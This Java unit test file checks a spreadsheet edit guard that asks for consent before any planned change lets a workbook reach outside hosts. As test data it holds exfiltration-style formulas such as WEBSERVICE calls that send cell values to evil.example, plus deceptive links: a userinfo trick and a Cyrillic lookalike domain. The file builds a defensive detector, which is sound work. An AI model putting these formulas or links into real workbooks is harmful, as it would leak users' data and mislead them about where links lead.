package dev.deckhand.guard;

import static org.assertj.core.api.Assertions.assertThat;

import dev.deckhand.document.Safeguards;
import dev.deckhand.document.SheetLines;
import dev.deckhand.document.SheetLines.Axis;
import dev.deckhand.document.SheetRange;
import dev.deckhand.document.WorkbookSnapshot;
import dev.deckhand.plan.Binding;
import dev.deckhand.plan.BoundArrangeOperation;
import dev.deckhand.plan.BoundCellOperation;
import dev.deckhand.plan.BoundLineOperation;
import dev.deckhand.plan.BoundNoteOperation.Link;
import dev.deckhand.plan.BoundNoteOperation.SetHyperlink;
import dev.deckhand.plan.BoundOperation;
import dev.deckhand.plan.BoundPlan;
import dev.deckhand.plan.BoundSheetOperation;
import dev.deckhand.plan.ClearWhat;
import dev.deckhand.plan.CopyWhat;
import dev.deckhand.plan.EditPlan;
import dev.deckhand.plan.Plans;
import dev.deckhand.plan.Rehearsal;
import dev.deckhand.plan.Scope;
import dev.deckhand.plan.Violation;
import dev.deckhand.plan.WorkbookBinder;
import dev.deckhand.testing.SheetOfText;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class EgressGuardTest {
  private final WorkbookSnapshot book =
      new WorkbookSnapshot(List.of(new SheetOfText("S", "a|b")), List.of(), List.of(), false);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'op':'writeCells','range':'S!C1','values':[['=WEBSERVICE(A1)']]}",
        "{'op':'fillFormula','range':'S!C1:C3','formula':'=IMAGE(A1)'}",
        "{'op':'defineName','name':'TaxRate','refersTo':'=WEBSERVICE(S!$A$1)'}",
        "{'op':'defineName','name':'Data','refersTo':'=LET(x,_xlfn.WEBSERVICE(S!$A$1),x)'}",
        "{'op':'addConditionalFormat','range':'S!A1','rule':"
            + "{'type':'expression','formula':'=WEBSERVICE(A1)=1'}}",
        "{'op':'addConditionalFormat','range':'S!A1','rule':"
            + "{'type':'cellIs','operator':'between','value':1,'value2':'=WEBSERVICE(A1)'}}",
        "{'op':'setValidation','range':'S!A1','rule':"
            + "{'type':'custom','formula':'=webservice(A1)=1'}}",
        "{'op':'setValidation','range':'S!A1','rule':"
            + "{'type':'list','source':'=WEBSERVICE(A1)'}}",
        "{'op':'setValidation','range':'S!A1','rule':"
            + "{'type':'whole','operator':'equal','value':'=RTD(1,2,3)'}}"
      })
  void whereverAPlanPutsAnExitItNeedsConsent(String operation) {
    assertThat(judge(operation))
        .singleElement()
        .satisfies(
            violation -> {
              assertThat(violation.code()).isEqualTo("egress");
              assertThat(violation.severity()).isEqualTo(Violation.Severity.CONSENT);
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'op':'defineName','name':'Total','refersTo':'S!A1:A3'}",
        "{'op':'setValidation','range':'S!A1','rule':{'type':'list','values':['WEBSERVICE(A1)']}}",
        "{'op':'addConditionalFormat','range':'S!A1','rule':{'type':'text','text':'=IMAGE(1)'}}"
      })
  void whatStaysInsideNeedsNone(String operation) {
    assertThat(judge(operation)).isEmpty();
  }

  private List<Violation> judge(String operation) {
    WorkbookBinder binder =
        new WorkbookBinder(
            book, formula -> Optional.empty(), all -> new Rehearsal.Outcome(book, List.of()));
    Binding.Bound bound = (Binding.Bound) binder.bind(Plans.of(operation));
    return new EgressGuard()
        .judge(new PlannedEdit(bound.plan(), book, Safeguards.NONE, Scope.EVERYWHERE));
  }

  @Test
  void linksAreAskedForWithTheirHosts() {
    assertThat(judge(link("https://www.xn--pple-43d.example/a?b=" + "c".repeat(400))))
        .singleElement()
        .satisfies(
            v -> {
              assertThat(v.severity()).isEqualTo(Violation.Severity.CONSENT);
              assertThat(v.message())
                  .contains("… leads outside the workbook, to www.xn--pple-43d.example;");
              assertThat(v.consent()).startsWith("egress:https://www.").endsWith("ccc");
            });
    assertThat(judge(link("https://good.example@evil.example/")))
        .singleElement()
        .satisfies(v -> assertThat(v.message()).contains("to evil.example;"));
    assertThat(judge(link("https://\u0430pple.example/")))
        .singleElement()
        .satisfies(v -> assertThat(v.message()).contains("to xn--pple-43d.example;"));
    assertThat(judge(link("mailto:a@evil.example")))
        .singleElement()
        .satisfies(v -> assertThat(v.message()).contains("to evil.example;"));
    assertThat(judge(new SetHyperlink("1", SheetRange.parse("S!A1"), new Link.Place("S!B1"))))
        .isEmpty();
  }

  private static BoundOperation link(String url) {
    return new SetHyperlink("1", SheetRange.parse("S!A1"), new Link.Address(url));
  }

  @Test
  void copiesAndMovesAreAskedForLikeWhatIsWritten() {
    SheetRange from = SheetRange.parse("S!A1:B2");
    SheetRange to = SheetRange.parse("S!E1:F2");
    WorkbookSnapshot exits = book("=WEBSERVICE(C1)|1", "2|=[1]Other!A1", "=RTD(1,2,3)|4");
    for (BoundOperation operation :
        List.of(
            new BoundCellOperation.CopyRange("1", from, to, CopyWhat.ALL),
            new BoundSheetOperation.CopySheet("1", "S", "T"))) {
      assertThat(judge(exits, operation))
          .extracting(Violation::consent)
          .contains("egress:=WEBSERVICE(C1)", "egress:=[1]Other!A1");
    }
  }

  @Test
  void manyExitsOfOneOperationAreOneQuestionWithEveryHost() {
    String[] rows =
        IntStream.range(0, 500)
            .mapToObj(i -> "=HYPERLINK(\"https://h%d.example/\"&B%d)".formatted(i % 3, i + 1))
            .toArray(String[]::new);
    rows[250] = "=WEBSERVICE(\"https://evil.example/\"&B251)";
    assertThat(judge(book(rows), new BoundSheetOperation.CopySheet("7", "S", "T")))
        .singleElement()
        .satisfies(
            v -> {
              assertThat(v.message())
                  .contains("500 formulas of operation 7: HYPERLINK, WEBSERVICE")
                  .contains("h0.example, h1.example, h2.example, evil.example");
              assertThat(v.consent())
                  .isEqualTo("egress:500 formulas of operation 7: HYPERLINK, WEBSERVICE");
            });
  }

  /** Once cells may be elsewhere, a text replaced anywhere may turn any formula into an exit. */
  @Test
  void afterCellsHaveMovedEveryFormulaCountsAsReplaced() {
    SheetRange elsewhere = SheetRange.parse("S!D9");
    BoundOperation replace =
        new BoundCellOperation.ReplaceText(
            "2", List.of(elsewhere), "WEBSERVICES", "WEBSERVICE", false, false);
    WorkbookSnapshot harmless = book("=WEBSERVICES(B1)");
    assertThat(judge(harmless, replace)).isEmpty();
    assertThat(
            judge(
                harmless,
                new BoundCellOperation.ClearCells("1", elsewhere, ClearWhat.ALL),
                replace))
        .isEmpty();
    for (BoundOperation moves :
        List.of(
            new BoundLineOperation.InsertLines("1", new SheetLines("S", Axis.ROWS, 0, 1)),
            new BoundArrangeOperation.SortRange("1", elsewhere, List.of()),
            new BoundSheetOperation.RenameSheet("1", "S", "T"),
            new BoundCellOperation.MoveRange("1", elsewhere, SheetRange.parse("S!E9")))) {
      assertThat(judge(harmless, moves, replace))
          .as("%s", moves)
          .extracting(Violation::consent)
          .containsExactly("egress:=WEBSERVICE(B1)");
    }
  }

  @Test
  void upToTwentyExitsAreAskedForOneByOne() {
    String[] rows =
        IntStream.range(0, 21)
            .mapToObj(i -> "=WEBSERVICE(B%d)".formatted(i + 1))
            .toArray(String[]::new);
    BoundOperation copy = new BoundSheetOperation.CopySheet("7", "S", "T");
    assertThat(judge(book(Arrays.copyOf(rows, 20)), copy)).hasSize(20);
    assertThat(judge(book(rows), copy)).hasSize(1);
  }

  private static WorkbookSnapshot book(String... rows) {
    return new WorkbookSnapshot(List.of(new SheetOfText("S", rows)), List.of(), List.of(), false);
  }

  private List<Violation> judge(BoundOperation operation) {
    return judge(book, operation);
  }

  private static List<Violation> judge(WorkbookSnapshot workbook, BoundOperation... operations) {
    BoundPlan plan = new BoundPlan(new EditPlan("", List.of()), List.of(operations));
    return new EgressGuard()
        .judge(new PlannedEdit(plan, workbook, Safeguards.NONE, Scope.EVERYWHERE));
  }
}
